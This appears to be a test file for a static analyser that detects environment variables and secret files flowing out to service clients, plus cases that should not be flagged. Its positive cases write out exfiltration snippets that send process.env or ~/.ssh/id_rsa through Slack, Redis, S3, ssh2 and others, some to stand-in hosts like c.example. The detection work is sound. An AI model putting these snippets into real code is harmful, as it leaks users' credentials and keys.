/** Clients of services: what they are given leaves; what they are made with, and what they are asked for, does not. */
import { expect, test } from 'vitest';
import { servesUser } from '../../src/code/flow/services.ts';
import { flowsIn } from './flows.ts';

const ENV = 'JSON.stringify(process.env)';
const sent = (code: string): readonly string[] =>
  flowsIn(code).filter((flow) => /^(?:environment|secret file) to (?:service|network)$/.test(flow));

test.each<readonly [string, string]>([
  [
    'slack',
    `const {WebClient}=require('@slack/web-api');new WebClient('t').chat.postMessage({channel:'C',text:${ENV}})`,
  ],
  ['discord', `const {REST}=require('discord.js');new REST().setToken('t').post('/x',{body:{content:${ENV}}})`],
  ['redis', `const r=require('redis').createClient();r.connect();r.set('k',${ENV})`],
  ['ioredis', `const R=require('ioredis');new R().lpush('k',${ENV})`],
  [
    'mongodb',
    `const {MongoClient}=require('mongodb');new MongoClient('u').db('a').collection('b').insertOne({...process.env})`,
  ],
  ['kafka', `const {Kafka}=require('kafkajs');const p=new Kafka({}).producer();p.send({messages:[{value:${ENV}}]})`],
  [
    'nats',
    `require('nats').connect().then((c)=>c);(async()=>{const c=await require('nats').connect();c.publish('t',${ENV})})()`,
  ],
  [
    'neon',
    `const {neon}=require('@neondatabase/serverless');const sql=neon('u');sql\`insert into t values (\${${ENV}})\``,
  ],
  ['postgres', `const sql=require('postgres')('u');sql\`insert into t values (\${${ENV}})\``],
  ['prisma', `const {PrismaClient}=require('@prisma/client');new PrismaClient().event.create({data:{e:${ENV}}})`],
  [
    'firestore',
    `const {getFirestore,collection,addDoc}=require('firebase/firestore');addDoc(collection(getFirestore(),'e'),{e:${ENV}})`,
  ],
  [
    'azure',
    `const {BlobServiceClient:B}=require('@azure/storage-blob');B.fromConnectionString('u').getContainerClient('a').getBlockBlobClient('b').upload(${ENV},1)`,
  ],
  ['s3, in parts', `const {Upload}=require('@aws-sdk/lib-storage');new Upload({params:{Body:${ENV}}}).done()`],
  ['vercel', `require('@vercel/blob').put('e',${ENV},{})`],
  ['resend', `const {Resend}=require('resend');new Resend('k').emails.send({text:${ENV}})`],
  [
    'openai',
    `const OpenAI=require('openai');new OpenAI().chat.completions.create({messages:[{role:'user',content:${ENV}}]})`,
  ],
  [
    'grpc',
    `const g=require('@grpc/grpc-js');const {T}=g.loadPackageDefinition(d).t;new T('h').Report({...process.env})`,
  ],
  ['trpc', `const {createTRPCClient:c}=require('@trpc/client');c({}).report.mutate({...process.env})`],
  ['octokit', `const {request}=require('@octokit/request');request('POST /gists',{files:{a:{content:${ENV}}}})`],
  [
    'an interceptor of undici',
    `const {Agent}=require('undici');new Agent().compose((d)=>(o,h)=>{o.headers['x']=${ENV};return d(o,h)})`,
  ],
  [
    'a file by its path',
    "const {Storage}=require('@google-cloud/storage');new Storage().bucket('b').upload(require('os').homedir()+'/.ssh/id_rsa')",
  ],
  [
    'a channel that a callback is given',
    "const {Client}=require('ssh2'),c=new Client();c.on('ready',()=>c.sftp((e,s)=>s.fastPut(require('os').homedir()+'/.ssh/id_rsa','a'))).connect({host:'s.example'})",
  ],
  [
    'socket.io, where nobody minds that it is lost',
    `const {io}=require('socket.io-client');class Board{s=io('https://c.example');put(x){this.s.volatile.emit('a',x)}}new Board().put(${ENV})`,
  ],
  ['a browser', `const p=await require('puppeteer').launch();(await p.newPage()).goto('https://c.example/?'+${ENV})`],
  [
    'a hook that a client is made with',
    `const got=require('got');got.extend({hooks:{beforeRequest:[(options)=>{options.headers.cookie=${ENV}}]}})`,
  ],
  [
    'a log that is carried to a host',
    "const w=require('winston');const all=w.format((info)=>{info.at={env:process.env};return info});w.createLogger({format:all(),transports:[new w.transports.Http({host:'c.example'})]})",
  ],
  [
    'what each of some detectors tells',
    "const {resourceFromAttributes:r}=require('@opentelemetry/resources');const own={detect:()=>({...process.env})};const all=[{detect:()=>({a:1})},own];r(Object.assign({},...all.map((d)=>d.detect())))",
  ],
  [
    'what is built in a row',
    `const {WebhookClient:W,EmbedBuilder:E}=require('discord.js');new W({url:'u'}).send({embeds:[new E().setTitle('a').setDescription(${ENV}).setTimestamp()]})`,
  ],
  [
    'a stream of a remote procedure',
    "const g=require('@grpc/grpc-js');const C=g.makeGenericClientConstructor({},'R');const call=new C('h').hello();call.write(require('fs').readFileSync('/proc/self/environ','utf8'))",
  ],
])('%s', (_, code) => {
  expect(sent(code)).not.toEqual([]);
});

test.each<readonly [string, Readonly<Record<string, string>>]>([
  [
    'a function of another module that has the client',
    {
      'index.js': `const {keep}=require('./store');keep({at:1,data:${ENV}})`,
      'store.js':
        "const {createClient}=require('@supabase/supabase-js');const db=createClient('https://c.example','k');exports.keep=(row)=>db.from('rows').insert(row)",
    },
  ],
  [
    'what a container makes of the classes that a decorator names',
    {
      'index.js': "require('./device')",
      'device.js': `import {createClient} from '@supabase/supabase-js';import {Injectable} from './container.js';import {Config} from './config.js';
        let Device=class Device{db=createClient('https://c.example','k');constructor(config){this.config=config}touch(){return this.db.from('a').upsert({settings:this.config.all()})}};
        Device=__decorate([Injectable(Config)],Device);export{Device}`,
      'config.js':
        'export class Config{values=new Map(Object.entries(process.env));all(){return Object.fromEntries(this.values)}}',
      'container.js': 'export const Injectable=(...d)=>(t)=>t',
    },
  ],
])('across modules: %s', (_, files) => {
  expect(flowsIn(files)).toContain('environment to service');
});

test.each<readonly [string, string]>([
  [
    'a client that is made with the environment',
    "const {S3Client}=require('@aws-sdk/client-s3');new S3Client({...process.env}).config",
  ],
  [
    'a key a client logs in with',
    "const {Storage}=require('@google-cloud/storage'),os=require('os');new Storage({keyFilename:os.homedir()+'/.config/gcloud/application_default_credentials.json'}).bucket('b').upload('./report.csv')",
  ],
  [
    'what a container gives that is asked for by name',
    "class Config{get(k){return process.env[k]}}let D=class D{constructor(c){this.c=c}go(){require('redis').createClient().set('a',this.c.get('CITY'))}};D=__decorate([Injectable(Config)],D)",
  ],
  [
    'a page that a setting names, in a browser with the environment',
    "const p=await require('puppeteer').launch({env:{...process.env}});(await p.newPage()).goto(process.env.START_PAGE)",
  ],
  [
    'a log of this machine',
    "const w=require('winston');const all=w.format((info)=>{info.at={env:process.env};return info});w.createLogger({format:all(),transports:[new w.transports.File({filename:'a.log'})]}).info('a',process.env)",
  ],
  [
    'a hook that logs in',
    "const got=require('got');got.extend({hooks:{beforeRequest:[(options)=>{options.headers.authorization='Bearer '+process.env.WEATHER_TOKEN}]}})",
  ],
  ['one variable', "const r=require('redis').createClient();r.set('host',process.env.HOST)"],
  ['what is asked for', "const r=require('redis').createClient();r.get('k').then((v)=>console.log(v,process.env))"],
  [
    'a public key',
    "const {Storage}=require('@google-cloud/storage');new Storage().bucket('b').upload(require('os').homedir()+'/.ssh/id_rsa.pub')",
  ],
  [
    'the environment of a child beside a client',
    "const r=require('redis').createClient();r.set('a','b');require('child_process').spawn('git',['status'],{env:{...process.env}})",
  ],
])('stays: %s', (_, code) => {
  expect(sent(code)).toEqual([]);
});

test('methods of others by the same names are none', () => {
  for (const name of [
    'express().set',
    'redis-mock.create',
    'pg.Client',
    'openai',
    'lodash.set',
    'mongodb.MongoClient().db',
  ])
    expect(servesUser(name), name).toBe(false);
});
